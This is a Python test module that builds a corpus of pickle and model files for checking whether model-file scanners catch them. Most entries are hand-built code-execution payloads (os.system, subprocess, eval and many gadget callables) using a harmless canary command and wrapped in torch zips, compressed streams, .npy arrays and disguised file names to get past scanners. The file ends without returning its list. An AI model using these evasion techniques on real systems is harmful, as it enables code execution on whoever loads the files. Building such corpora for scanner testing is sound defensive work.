"""The team's scanner-bypass corpus: model files assembled byte by byte, each with the verdict a correct scanner gives.

Nothing here is ever unpickled. Dangerous files are built opcode by opcode (or by wrapping such bytes in zip, tar,
compression and .npy containers by hand); benign files pickle real scikit-learn / numpy / pandas / joblib objects
created in this process (our own data) or spell torch-like files by hand (torch is not needed).

Families (``Sample.family``), after the scanner-bypass write-ups of 2024-2026 against picklescan, ModelScan,
ModelAudit and fickling:

- ``parser``: bytes a symbolic machine may read differently from CPython's unpickler (protocol 0/1 text, no PROTO,
  leading no-op opcodes, FRAME first, long text lines, big LONG4, huge memo indices, caps after a benign prefix,
  joblib array headers that do not match their bytes, legacy torch streams);
- ``allowlist``: dangerous callables reached through names an allow-list by module prefix trusts (re-exported
  modules, getattr/import helpers in numpy, sklearn, joblib, torch; copyreg extension codes; functools/itertools);
- ``published``: gadgets published against scanners (uuid command helpers, subinterpreters, pagers, IMAP4_stream,
  torch.utils.collect_env.run ...);
- ``container``: the same payloads inside torch zips (any extension, header name mismatch, high-ratio members),
  compressed streams of every codec (also concatenated), tar archives, .npy/.npz object arrays however the dtype is
  spelled, TorchServe .mar archives, nested zips, pickle-zip polyglots, pickles named like text files.

Entry point: ``build_corpus() -> list[Sample]`` (also for the stream core's oracle: ``Sample.streams`` holds the raw
pickle streams of a sample when they are the whole file, else None).
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

CMD = "touch /tmp/mlaudit-bypass-canary"
TORCH_MAGIC = 0x1950A86A20F9469CFC6C


@dataclass(frozen=True, slots=True)
class Sample:
    """One corpus file: a name (its extension is part of the test), its bytes and the verdict a correct scanner gives."""

    name: str
    data: bytes
    expected: str  # dangerous | inconclusive | safe
    family: str  # parser | allowlist | published | container | benign
    note: str
    streams: tuple[bytes, ...] | None = None


# --- opcode spelling -------------------------------------------------------------------------------
def u(text: str) -> bytes:
    """SHORT_BINUNICODE (or BINUNICODE past 255 bytes)."""
    raw = text.encode()
    return (b"\x8c" + bytes([len(raw)]) if len(raw) < 256 else b"X" + struct.pack("<I", len(raw))) + raw


def binstr(text: str) -> bytes:
    """SHORT_BINSTRING (protocol 1)."""
    raw = text.encode()
    return b"U" + bytes([len(raw)]) + raw


def g0(module: str, name: str) -> bytes:
    """GLOBAL (text) opcode."""
    return f"c{module}\n{name}\n".encode()


def call_global(module: str, name: str, arg: str, proto: int = 2) -> bytes:
    """PROTO, GLOBAL module.name, MARK arg TUPLE, REDUCE, STOP."""
    return b"\x80" + bytes([proto]) + g0(module, name) + b"(" + u(arg) + b"tR."


def call_stack_global(module: str, name: str, arg: str, proto: int = 4) -> bytes:
    """PROTO 4, STACK_GLOBAL, TUPLE1, REDUCE (framed like CPython writes it)."""
    body = u(module) + b"\x94" + u(name) + b"\x94\x93\x94" + u(arg) + b"\x94\x85\x94R\x94."
    return b"\x80" + bytes([proto]) + b"\x95" + struct.pack("<Q", len(body)) + body


def call_proto0(module: str, name: str, arg: str) -> bytes:
    """Protocol 0 text pickle: GLOBAL, MARK, STRING, TUPLE, REDUCE (no PROTO opcode)."""
    return g0(module, name) + f"(S'{arg}'\ntR.".encode()


def call_proto1(module: str, name: str, arg: str) -> bytes:
    """Protocol 1 binary opcodes without PROTO: GLOBAL, BINPUT, MARK, SHORT_BINSTRING, TUPLE, REDUCE."""
    return g0(module, name) + b"q\x00(" + binstr(arg) + b"tR."


def call_inst(module: str, name: str, arg: str) -> bytes:
    """INST builds ``module.name(arg)`` in one opcode."""
    return f"(S'{arg}'\ni{module}\n{name}\n.".encode()


def call_obj(module: str, name: str, arg: str) -> bytes:
    """OBJ: MARK, GLOBAL, arg, OBJ (protocol 1)."""
    return b"(" + g0(module, name) + binstr(arg) + b"o."


def call_newobj(module: str, name: str, arg: str) -> bytes:
    """NEWOBJ on a class global: cls.__new__(cls, arg) (dangerous for subprocess.Popen-like classes)."""
    return b"\x80\x02" + g0(module, name) + u(arg) + b"\x85\x81."


def call_memo(module: str, name: str, arg: str) -> bytes:
    """Module and name strings memoized early, fetched back with BINGET for STACK_GLOBAL."""
    return (b"\x80\x04" + u("benign") + b"\x94" + u(module) + b"\x94" + u(name) + b"\x94" + b"000"
            + b"h\x01h\x02\x93" + u(arg) + b"\x85R.")


SPELLINGS: dict[str, Callable[[str, str, str], bytes]] = {
    "proto2": call_global, "stack_global": call_stack_global, "proto0": call_proto0, "proto1": call_proto1,
    "inst": call_inst, "obj": call_obj, "memo": call_memo,
}


def payload(spelling: str = "proto2", module: str = "os", name: str = "system", arg: str = CMD) -> bytes:
    return SPELLINGS[spelling](module, name, arg)


# --- parser differentials -------------------------------------------------------------------------
def _strip_proto(data: bytes) -> bytes:
    return data[2:] if data[:1] == b"\x80" else data


def _parser_family() -> list[Sample]:
    core = _strip_proto(call_global("os", "system", CMD))  # GLOBAL ... REDUCE STOP, no PROTO
    out = []
    for spelling in ("proto0", "proto1", "inst", "obj", "memo"):
        for mod, name in (("os", "system"), ("subprocess", "check_output"), ("builtins", "eval")):
            arg = CMD if name != "eval" else "__import__('os').system('true')"
            out.append(Sample(f"parser_{spelling}_{mod}_{name}.pkl", payload(spelling, mod, name, arg), "dangerous", "parser",
                              f"{spelling} spelling of {mod}.{name}"))
    out += [
        Sample("parser_py2_builtin_eval.pkl", call_proto0("__builtin__", "eval", "1"), "dangerous", "parser",
               "protocol 0 with the Python 2 module name (_compat_pickle maps it to builtins)"),
        Sample("parser_noop_markpop.pkl", b"(1" + core, "dangerous", "parser", "MARK, POP_MARK no-op before the payload"),
        Sample("parser_noop_pushpop.pkl", b"N0" * 50 + core, "dangerous", "parser", "NONE/POP pairs before the payload"),
        Sample("parser_double_proto.pkl", b"\x80\x02\x80\x04" + core, "dangerous", "parser", "two PROTO opcodes"),
        Sample("parser_proto_late.pkl", b"N0\x80\x04" + core, "dangerous", "parser", "PROTO after another opcode"),
        Sample("parser_frame_first.pkl", b"\x95" + struct.pack("<Q", len(core)) + core, "dangerous", "parser",
               "FRAME as the first opcode, no PROTO"),
        Sample("parser_proto1_opcode.pkl", b"\x80\x01" + core, "dangerous", "parser", "PROTO 1"),
        Sample("parser_proto0_opcode.pkl", b"\x80\x00" + core, "dangerous", "parser", "PROTO 0"),
        Sample("parser_long4_prefix.pkl", b"\x80\x02\x8b" + struct.pack("<i", 200_000) + b"\x01" * 200_000 + b"0" + core,
               "dangerous", "parser", "a 200 KB LONG4 pushed and popped before the payload"),
        Sample("parser_long_line.pkl", b"\x80\x02S'" + b"a" * 1_200_000 + b"'\n0" + core, "dangerous", "parser",
               "a 1.2 MB STRING line before the payload (longer than a 1 MiB line cap)"),
        Sample("parser_long_unicode_line.pkl", b"V" + b"b" * 1_100_000 + b"\n0" + core, "dangerous", "parser",
               "a 1.1 MB UNICODE line, no PROTO"),
        Sample("parser_memo_index_text.pkl", b"\x80\x02" + g0("os", "system") + b"p99999999999999999999\n0g99999999999999999999\n("
               + u(CMD) + b"tR.", "dangerous", "parser", "PUT/GET with a 20-digit memo index"),
        Sample("parser_long_binput.pkl", b"\x80\x02" + g0("os", "system") + b"r\xff\xff\xff\x7f0j\xff\xff\xff\x7f(" + u(CMD) + b"tR.",
               "dangerous", "parser", "LONG_BINPUT/LONG_BINGET with index 2**31-1"),
        Sample("parser_ops_prefix.pkl", b"\x80\x04" + b"N0" * 300_000 + core, "dangerous", "parser",
               "600,000 benign opcodes before the payload"),
        Sample("parser_after_stop_second_stream.pkl", pickle.dumps([1, 2], protocol=2) + core, "dangerous", "parser",
               "a benign stream, then a stream without PROTO"),
        Sample("parser_third_stream.pkl", pickle.dumps({"a": 1}, protocol=4) + pickle.dumps([2], protocol=0) + call_global("os", "system", CMD),
               "dangerous", "parser", "payload in the third of three concatenated streams"),
        Sample("parser_ext1.pkl", b"\x80\x02\x82\x01(" + u(CMD) + b"tR.", "dangerous", "parser",
               "EXT1 extension code: the callable comes from copyreg's runtime registry"),
        Sample("parser_ext2.pkl", b"\x80\x02\x83\x01\x02(" + u(CMD) + b"tR.", "dangerous", "parser", "EXT2 extension code"),
        Sample("parser_ext4.pkl", b"\x80\x02\x84\x01\x02\x03\x04(" + u(CMD) + b"tR.", "dangerous", "parser", "EXT4 extension code"),
        Sample("parser_computed_module.pkl", b"\x80\x04" + u("builtins") + u("str.join") + b"\x93" + u("") + u("o") + u("s")
               + b"\x86\x86R" + u("system") + b"\x93" + u(CMD) + b"\x85R.", "dangerous", "parser",
               "STACK_GLOBAL whose module name is computed at load time"),
        Sample("parser_getattr_chain.pkl", b"\x80\x04" + u("builtins") + u("getattr") + b"\x93" + u("builtins") + u("__import__")
               + b"\x93" + u("os") + b"\x85R" + u("system") + b"\x86R" + u(CMD) + b"\x85R.", "dangerous", "parser",
               "getattr(__import__('os'), 'system')"),
        Sample("parser_dotted_name.pkl", call_stack_global("sklearn.utils", "os.system", CMD), "dangerous", "parser",
               "a dotted name under an allow-listed module walks to os.system"),
        Sample("parser_dotted_builtins.pkl", call_stack_global("numpy", "__builtins__.eval", "1"), "dangerous", "parser",
               "numpy.__builtins__.eval through a dotted name"),
        Sample("parser_build_setstate_global.pkl", b"\x80\x02" + g0("collections", "OrderedDict") + b")R}" + u("__setstate__")
               + g0("os", "system") + b"sb(" + u(CMD) + b"tR.", "dangerous", "parser",
               "BUILD with a __setstate__ key naming os.system"),
    ]
    out += _joblib_desync() + _legacy_torch()
    return out


def _joblib_wrapper(n: int) -> bytes:
    """A joblib NumpyArrayWrapper for ``n`` uint8 values, without alignment bytes (older joblib), protocol 2."""
    dtype = g0("numpy", "dtype") + b"(" + binstr("u1") + b"K\x00K\x01tR(K\x03" + binstr("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    state = (b"}(" + binstr("subclass") + g0("numpy", "ndarray") + binstr("shape") + b"J" + struct.pack("<i", n) + b"\x85"
             + binstr("order") + binstr("C") + binstr("dtype") + dtype + binstr("allow_mmap") + b"\x89u")
    return b"\x80\x02" + g0("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"


def _joblib_desync() -> list[Sample]:
    """The bytes after a NumpyArrayWrapper are array data for joblib.load, but opcodes for plain pickle.load."""
    run = g0("os", "system") + b"(" + binstr(CMD) + b"tR0"  # call, then pop the result: the wrapper stays the root
    fake = _joblib_wrapper(len(run)) + run + b"."
    short = _joblib_wrapper(4) + b"\x00\x00\x00\x00" + run + b"."  # declared 4 bytes, payload after them
    long = _joblib_wrapper(len(run) + 64) + run + b"N0" * 32 + b"."
    return [
        Sample("desync_fake_wrapper.pkl", fake, "dangerous", "parser",
               "fake NumpyArrayWrapper: plain pickle.load runs the 'array bytes' as opcodes"),
        Sample("desync_declared_short.joblib", short, "dangerous", "parser",
               "array header declares 4 bytes; the payload follows them (joblib.load runs it)"),
        Sample("desync_declared_long.joblib", long, "dangerous", "parser",
               "array header declares more bytes than the payload; plain pickle.load runs it"),
    ]


def _legacy_torch_streams(obj_stream: bytes, keys_stream: bytes) -> bytes:
    magic = pickle.dumps(TORCH_MAGIC, protocol=2)
    proto = pickle.dumps(1001, protocol=2)
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    return magic + proto + sys_info + obj_stream + keys_stream + b"\x00" * 64  # raw storage bytes follow


def legacy_torch_benign() -> bytes:
    """A legacy (pre-1.6) torch file: five streams, the object an OrderedDict of one rebuilt tensor, then raw storage."""
    obj = (b"\x80\x02" + g0("collections", "OrderedDict") + b")R" + binstr("w")
           + g0("torch._utils", "_rebuild_tensor_v2") + b"((" + binstr("storage") + g0("torch", "FloatStorage") + binstr("0")
           + binstr("cpu") + b"K\x04NtQK\x00K\x04\x85K\x01\x85\x89" + g0("collections", "OrderedDict") + b")RtRs.")
    return _legacy_torch_streams(obj, pickle.dumps(["0"], protocol=2))


def _legacy_torch() -> list[Sample]:
    bad = call_global("os", "system", CMD)
    benign_obj = pickle.dumps({"w": [1.0, 2.0]}, protocol=2)
    tar = _tar({"sys_info": pickle.dumps({"little_endian": True}, protocol=2), "pickle": bad,
                "storages": pickle.dumps(0, protocol=2), "tensors": pickle.dumps(0, protocol=2)})
    return [
        Sample("legacy_torch_fifth_stream.pt", _legacy_torch_streams(benign_obj, bad), "dangerous", "parser",
               "legacy torch: the payload is the fifth stream (the storage-key list torch.load unpickles)"),
        Sample("legacy_torch_object_stream.pth", _legacy_torch_streams(bad, pickle.dumps([], protocol=2)), "dangerous", "parser",
               "legacy torch: the payload is the object stream"),
        Sample("legacy_torch_tar.tar", tar, "dangerous", "parser", "legacy torch tar format: the 'pickle' member"),
    ]


# --- allow-list gadgets and published gadgets -------------------------------------------------------
ALLOWLIST_GADGETS = [
    ("numpy.core.fromnumeric", "_wrapfunc", "numpy's getattr-and-call helper"),
    ("numpy._core.fromnumeric", "_wrapfunc", "numpy 2's getattr-and-call helper"),
    ("numpy.lib._utils_impl", "os", "a module re-exported by numpy"),
    ("numpy.testing._private.utils", "runstring", "exec of a string"),
    ("numpy.f2py.diagnose", "os", "os re-exported under numpy.f2py"),
    ("numpy.distutils.exec_command", "exec_command", "runs a shell command"),
    ("numpy.lib.npyio", "load", "numpy.load: unpickles another file"),
    ("scipy._lib._testutils", "subprocess", "subprocess re-exported under scipy"),
    ("scipy.io.matlab._mio", "loadmat", "reads a file named by the pickle"),
    ("sklearn.utils._response", "_get_response_values", "calls a method named by its argument"),
    ("sklearn.utils._testing", "assert_run_python_script_without_output", "runs Python source"),
    ("sklearn.utils.fixes", "import_module", "importlib re-exported"),
    ("joblib._memmapping_reducer", "os", "os re-exported under joblib"),
    ("joblib.externals.loky.backend.popen_loky_posix", "Popen", "process spawner"),
    ("joblib.numpy_pickle", "load", "joblib.load: unpickles another file"),
    ("torch._utils", "_import_dotted_name", "imports any dotted name"),
    ("torch.storage", "_load_from_bytes", "torch.load of bytes in the pickle"),
    ("torch._utils", "_rebuild_from_type_v2", "calls the function it is given"),
    ("torch.serialization", "load", "torch.load of another file"),
    ("torch.hub", "load", "downloads and runs code"),
    ("torch.utils.cpp_extension", "load_inline", "compiles and loads C++"),
    ("pandas.io.pickle", "read_pickle", "unpickles another file"),
    ("pandas.core.computation.eval", "eval", "evaluates an expression"),
    ("operator", "methodcaller", "calls a method named by its argument"),
    ("operator", "attrgetter", "getattr by name"),
    ("builtins", "open", "opens (and can truncate) a file"),
    ("numpy.lib._datasource", "open", "opens a file or URL"),
    ("numpy.lib.format", "read_array", "reads (and may unpickle) a file"),
    ("scipy.io", "loadmat", "reads a file named by the pickle"),
    ("pandas", "read_csv", "reads a file or URL"),
    ("io", "open", "builtins.open alias"),
    ("_io", "FileIO", "opens a file"),
    ("codecs", "open", "opens a file"),
    ("importlib", "import_module", "imports any module"),
    ("importlib._bootstrap", "_gcd_import", "imports any module"),
    ("builtins", "__import__", "imports any module"),
    ("pickle", "loads", "unpickles nested bytes"),
    ("_pickle", "loads", "unpickles nested bytes"),
    ("marshal", "loads", "loads code objects"),
    ("types", "FunctionType", "builds a function from a code object"),
]
PUBLISHED_GADGETS = [
    ("uuid", "_get_command_stdout", "runs a command (uuid helper)"),
    ("uuid", "_ifconfig_getnode", "runs ifconfig"),
    ("uuid", "_ip_getnode", "runs ip"),
    ("uuid", "_arp_getnode", "runs arp"),
    ("uuid", "_lanscan_getnode", "runs lanscan"),
    ("uuid", "_netstat_getnode", "runs netstat"),
    ("uuid", "_find_mac_near_keyword", "runs a command"),
    ("_xxsubinterpreters", "run_string", "runs source in a subinterpreter"),
    ("_interpreters", "run_string", "runs source in a subinterpreter (3.13)"),
    ("_interpreters", "exec", "runs source in a subinterpreter"),
    ("_pyrepl.pager", "pipe_pager", "pipes to a shell command"),
    ("_pyrepl.pager", "tempfile_pager", "runs a pager command"),
    ("pydoc", "pipepager", "pipes to a shell command"),
    ("imaplib", "IMAP4_stream", "spawns a command"),
    ("torch.utils.collect_env", "run", "runs a shell command"),
    ("torch.utils.collect_env", "run_and_read_all", "runs a shell command"),
    ("torch._inductor.codecache", "compile_file", "compiles and loads code"),
    ("torch._inductor.cpp_builder", "run_compile_cmd", "runs a compiler command"),
    ("torch.utils._config_module", "ConfigModule", "exec of config source"),
    ("lib2to3.pgen2.pgen", "generate_grammar", "reads a file"),
    ("idlelib.pyshell", "ModifiedInterpreter", "interpreter"),
    ("code", "InteractiveInterpreter", "interpreter"),
    ("timeit", "timeit", "exec of a statement"),
    ("cProfile", "run", "exec of a statement"),
    ("profile", "run", "exec of a statement"),
    ("trace", "Trace", "exec helpers"),
    ("doctest", "debug_script", "exec of source"),
    ("ctypes", "CDLL", "loads a native library"),
    ("distutils.spawn", "spawn", "spawns a process"),
    ("setuptools._distutils.spawn", "spawn", "spawns a process"),
    ("asyncio.unix_events", "_UnixSubprocessTransport", "spawns a process"),
    ("multiprocessing.util", "spawnv_passfds", "spawns a process"),
    ("ensurepip", "_run_pip", "runs pip"),
    ("venv", "EnvBuilder", "creates environments and runs pip"),
    ("runpy", "run_path", "runs a file"),
    ("shutil", "rmtree", "deletes a tree"),
    ("tempfile", "mkdtemp", "creates files"),
    ("zipfile", "ZipFile", "writes archives"),
    ("webbrowser", "open", "starts a browser"),
    ("pty", "spawn", "spawns a shell"),
]


def _gadget_family(gadgets: list[tuple[str, str, str]], family: str) -> list[Sample]:
    out = []
    for i, (module, name, why) in enumerate(gadgets):
        spelling = ("proto2", "stack_global", "proto0", "memo")[i % 4]
        out.append(Sample(f"{family}_{module}.{name}.pkl".replace("/", "_"), payload(spelling, module, name, CMD), "dangerous", family,
                          f"{module}.{name} invoked ({why}); {spelling} spelling"))
    return out


def _partial_gadgets() -> list[Sample]:
    """Dangerous callables reached through functools.partial / itertools / getattr helpers (several spellings)."""
    partial = b"\x80\x02" + g0("functools", "partial") + g0("os", "system") + u(CMD) + b"\x86R)R."
    starmap = (b"\x80\x02" + g0("builtins", "list") + g0("itertools", "starmap") + g0("os", "system") + b"]("
               + u(CMD) + b"\x85a\x86R\x85R.")
    wrapfunc = (b"\x80\x02" + g0("numpy.core.fromnumeric", "_wrapfunc") + g0("numpy.lib._utils_impl", "os") + u("system") + u(CMD)
                + b"\x87R.")
    dotted_import = b"\x80\x02" + g0("torch._utils", "_import_dotted_name") + u("os.system") + b"\x85R(" + u(CMD) + b"tR."
    return [
        Sample("allowlist_partial_os_system.pkl", partial, "dangerous", "allowlist", "functools.partial(os.system, cmd)()"),
        Sample("allowlist_starmap_os_system.pkl", starmap, "dangerous", "allowlist", "list(itertools.starmap(os.system, [(cmd,)]))"),
        Sample("allowlist_wrapfunc_getattr.pkl", wrapfunc, "dangerous", "allowlist", "numpy _wrapfunc(os, 'system', cmd)"),
        Sample("allowlist_import_dotted_name.pkl", dotted_import, "dangerous", "allowlist", "torch._utils._import_dotted_name('os.system')(cmd)"),
    ]


# --- containers -----------------------------------------------------------------------------------
def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def torch_zip(pkl: bytes, prefix: str = "archive", method: int = zipfile.ZIP_STORED) -> bytes:
    """A torch >= 1.6 archive: <prefix>/data.pkl, version, byteorder, one raw storage."""
    return _zip({f"{prefix}/data.pkl": pkl, f"{prefix}/byteorder": b"little", f"{prefix}/version": b"3\n",
                 f"{prefix}/data/0": struct.pack("<4f", 1, 2, 3, 4)}, method)


def _name_mismatch(pkl: bytes) -> bytes:
    """The local header names the pickle 'archive/data.pkl' differently from the central directory."""
    data = bytearray(torch_zip(pkl))
    local = data.find(b"PK\x03\x04")
    name_len = struct.unpack_from("<H", data, local + 26)[0]
    name_at = local + 30
    assert bytes(data[name_at:name_at + name_len]) == b"archive/data.pkl"
    data[name_at:name_at + name_len] = b"archive/data.txt"
    return bytes(data)


def _tar(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_700_000_000
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _zstd(data: bytes) -> bytes:
    import zstandard

    return zstandard.ZstdCompressor().compress(data)


def _lz4(data: bytes) -> bytes:
    import lz4.frame

    return lz4.frame.compress(data)


CODECS: dict[str, Callable[[bytes], bytes]] = {
    "gzip": lambda d: gzip.compress(d, mtime=0), "zlib": zlib.compress, "bz2": bz2.compress, "xz": lzma.compress,
    "lzma": lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE), "lz4": _lz4, "zstd": _zstd,
}


def npy(descr: str, shape: tuple[int, ...], body: bytes, version: int = 1) -> bytes:
    """A .npy file written by hand: magic, version, header dict literal padded to 64 bytes, then ``body``."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape!r}, }}".encode("latin-1")
    width = 2 if version == 1 else 4
    pad = (-(6 + 2 + width + len(header) + 1)) % 64
    header += b" " * pad + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + len(header).to_bytes(width, "little") + header + body


OBJECT_DESCRS = ["'O'", "'|O'", "'object'", "[('a', '<f8'), ('b', 'O')]", "[('a', [('b', '|O')])]", "('O', (2,))",
                 "[('x', '<i8'), ('y', ('O', (3,)))]"]


def _object_list_pickle(inner: bytes) -> bytes:
    """A list whose one element is the payload call (numpy stores object arrays as one pickle of a list/array)."""
    return b"\x80\x02]" + _strip_proto(inner)[:-1] + b"a."


def _mar(inner_pt: bytes) -> bytes:
    manifest = b'{"runtime": "python", "model": {"modelName": "m", "serializedFile": "model.pt", "handler": "handler.py"}}'
    return _zip({"MAR-INF/MANIFEST.json": manifest, "model.pt": inner_pt, "handler.py": b"def handle(data, ctx):\n    return data\n"},
                zipfile.ZIP_DEFLATED)


def _container_family() -> list[Sample]:
    cores = {
        "os": call_global("os", "system", CMD),
        "posix4": call_stack_global("posix", "system", CMD),
        "subproc0": call_proto0("subprocess", "Popen", CMD),
        "eval_inst": call_inst("builtins", "eval", "1"),
    }
    out: list[Sample] = []
    for key, core in cores.items():
        for ext in (".pt", ".pth", ".PTH", ".bin", ".ckpt", ""):
            out.append(Sample(f"torchzip_{key}{ext or '_noext'}", torch_zip(core, prefix=f"m{len(ext)}"), "dangerous", "container",
                              f"torch zip under {ext or 'no extension'}"))
        out.append(Sample(f"torchzip_deflate_{key}.pt", torch_zip(core, method=zipfile.ZIP_DEFLATED), "dangerous", "container", "deflated torch zip"))
        out.append(Sample(f"torchzip_namemismatch_{key}.pt", _name_mismatch(core), "dangerous", "container",
                          "local header name differs from the central directory's"))
        unframed = core if key != "posix4" else call_memo("posix", "system", CMD)  # no FRAME: bytes appended after it
        padded = _strip_proto(unframed)[:-1] + b"\x8e" + struct.pack("<Q", 6 << 20) + b"\x00" * (6 << 20) + b"0."
        out.append(Sample(f"torchzip_highratio_{key}.pt", torch_zip(b"\x80\x04" + padded, method=zipfile.ZIP_DEFLATED), "dangerous",
                          "container", "6 MB member from ~6 KB (ratio ~1000): must be read, within bounds"))
        for codec, compress in CODECS.items():
            out.append(Sample(f"compressed_{codec}_{key}.pkl.{codec}", compress(core), "dangerous", "container", f"{codec} stream"))
        out.append(Sample(f"gzip_second_member_{key}.joblib", gzip.compress(pickle.dumps([1], protocol=2), mtime=0) + gzip.compress(core, mtime=0),
                          "dangerous", "container", "payload in the second gzip member (GzipFile reads both)"))
        out.append(Sample(f"tar_gz_{key}.pkl.tar.gz", gzip.compress(_tar({"model.pkl": core}), mtime=0), "dangerous", "container",
                          ".pkl.tar.gz as pandas.read_pickle opens it"))
        out.append(Sample(f"mar_{key}.mar", _mar(torch_zip(core)), "dangerous", "container", "TorchServe .mar holding a torch zip"))
        out.append(Sample(f"nested_zip_{key}.zip", _zip({"inner/model.pt": torch_zip(core)}), "dangerous", "container", "zip in zip"))
        out.append(Sample(f"polyglot_{key}.pkl", core + _zip({"data.pkl": b"\x80\x02N."}), "dangerous", "container",
                          "pickle followed by a zip directory"))
        out.append(Sample(f"zip_member_readme_{key}.zip", _zip({"README.md": core, "data.csv": b"a,b\n1,2\n"}), "dangerous", "container",
                          "pickle stored in a zip as README.md"))
    payload_list = _object_list_pickle(call_global("os", "system", CMD))
    for i, descr in enumerate(OBJECT_DESCRS):
        shape = (1,)
        out.append(Sample(f"npy_object_{i}.npy", npy(descr, shape, payload_list), "dangerous", "container",
                          f"object .npy spelled {descr}"))
        out.append(Sample(f"npz_object_{i}.npz", _zip({"arr_0.npy": npy(descr, shape, payload_list)}, zipfile.ZIP_DEFLATED), "dangerous",
                          "container", f"object array {descr} inside an .npz"))
    out.append(Sample("npy_v2_object.npy", npy("'O'", (1,), payload_list, version=2), "dangerous", "container", ".npy format 2.0"))
    out.append(Sample("npy_v3_object.npy", npy("'O'", (1,), payload_list, version=3), "dangerous", "container", ".npy format 3.0"))
    for ext in (".md", ".csv", ".py", ".toml"):
        out.append(Sample(f"hidden_pickle{ext}", call_proto0("os", "system", CMD), "dangerous", "container", f"a pickle committed as {ext}"))
        out.append(Sample(f"hidden_pickle_bin{ext}", call_global("posix", "system", CMD), "dangerous", "container", f"binary pickle as {ext}"))
    return out


# --- benign ---------------------------------------------------------------------------------------
def _benign_family() -> list[Sample]:
    import joblib
    import numpy as np
    import pandas as pd
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression, Ridge
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.default_rng(0)
    x = pd.DataFrame(rng.normal(size=(200, 4)), columns=["a", "b", "c", "d"])
    y = (x["a"] + rng.normal(size=200) > 0).astype(int)
    models = {
        "logreg": LogisticRegression().fit(x, y),
        "forest": RandomForestClassifier(n_estimators=4, max_depth=3, random_state=0).fit(x, y),
        "gbm": GradientBoostingClassifier(n_estimators=5, random_state=0).fit(x, y),
        "tree": DecisionTreeClassifier(max_depth=3).fit(x, y),
        "pipeline": Pipeline([("s", StandardScaler()), ("m", LogisticRegression())]).fit(x, y),
        "ridge": Ridge().fit(x.values, x["b"].values),
        "onehot": OneHotEncoder().fit(np.array([["a"], ["b"], ["c"]])),
    }
    out: list[Sample] = []
    for i, (name, model) in enumerate(models.items()):
        proto = 2 + i % 4
        out.append(Sample(f"benign_{name}_p{proto}.pkl", pickle.dumps(model, protocol=proto), "safe", "benign",
                          f"sklearn {type(model).__name__} pickled with protocol {proto}"))
        buf = io.BytesIO()
        joblib.dump(model, buf, compress=[0, 3, ("lz4", 1), ("xz", 1), ("bz2", 1), ("gzip", 3), ("zlib", 2)][i % 7])
        out.append(Sample(f"benign_{name}.joblib", buf.getvalue(), "safe", "benign", f"sklearn {type(model).__name__} joblib.dump"))
    arrays = {"f64": np.arange(12.0).reshape(3, 4), "i32": np.arange(10, dtype="int32"), "structured": np.zeros(3, dtype=[("a", "<f8"), ("b", "<i4")])}
    for name, arr in arrays.items():
        buf = io.BytesIO()
        np.save(buf, arr)
        out.append(Sample(f"benign_{name}.npy", buf.getvalue(), "safe", "benign", f"numpy {arr.dtype} array"))
        out.append(Sample(f"benign_{name}_p4.pkl", pickle.dumps(arr, protocol=4), "safe", "benign", "numpy array pickled"))
    buf = io.BytesIO()
    np.savez_compressed(buf, w=np.ones((4, 4)), b=np.zeros(4))
    out.append(Sample("benign_weights.npz", buf.getvalue(), "safe", "benign", "numpy savez_compressed"))
    state = {"weights": [np.ones(3), np.zeros(2)], "meta": {"epoch": 3, "lr": 0.01, "tags": ("a", "b")}, "ok": True}
    for proto in range(6):
        out.append(Sample(f"benign_state_p{proto}.pkl", pickle.dumps(state, protocol=proto), "safe", "benign", f"dict of arrays, protocol {proto}"))
    for codec in ("gzip", "bz2", "xz", "zstd", "lz4"):
        out.append(Sample(f"benign_state.pkl.{codec}", CODECS[codec](pickle.dumps(state, protocol=4)), "safe", "benign",
                          f"pickle compressed with {codec} (pandas.read_pickle style)"))
    out.append(Sample("benign_frame_p4.pkl", pickle.dumps(x.head(5), protocol=4), "safe", "benign", "pandas DataFrame pickled"))
    torch_obj = (b"\x80\x02" + g0("collections", "OrderedDict") + b")R" + binstr("w")
                 + g0("torch._utils", "_rebuild_tensor_v2") + b"((" + binstr("storage") + g0("torch", "FloatStorage") + binstr("0")
                 + binstr("cpu") + b"K\x04tQK\x00K\x04\x85K\x01\x85\x89" + g0("collections", "OrderedDict") + b")RtRs.")
    for ext in (".pt", ".bin", ".ckpt"):
        out.append(Sample(f"benign_torch_state_dict{ext}", torch_zip(torch_obj, prefix="model"), "safe", "benign",
                          f"torch-like state_dict zip under {ext} (spelled by hand)"))
    out.append(Sample("benign_torch_legacy.pt", legacy_torch_benign(), "safe", "benign", "legacy torch: five streams then raw storage"))
    out.append(Sample("benign_tar_gz.pkl.tar.gz", gzip.compress(_tar({"state.pkl": pickle.dumps(state, protocol=4)}), mtime=0), "safe",
                      "benign", ".pkl.tar.gz of a benign pickle"))
    out.append(Sample("benign_mar.mar", _mar(torch_zip(torch_obj)), "safe", "benign", "TorchServe .mar of a torch-like state dict"))
    return out


def build_corpus() -> list[Sample]:
    """Every sample: dangerous families first, then the benign ones."""
    samples = (_parser_family() + _gadget_family(ALLOWLIST_GADGETS, "allowlist") + _partial_gadgets()
               + _gadget_family(PUBLISHED_GADGETS, "published") + _container_family() + _benign_family())
    names = [s.name for s in samples]
    assert len(names) == len(set(names)), "sample names must be unique"
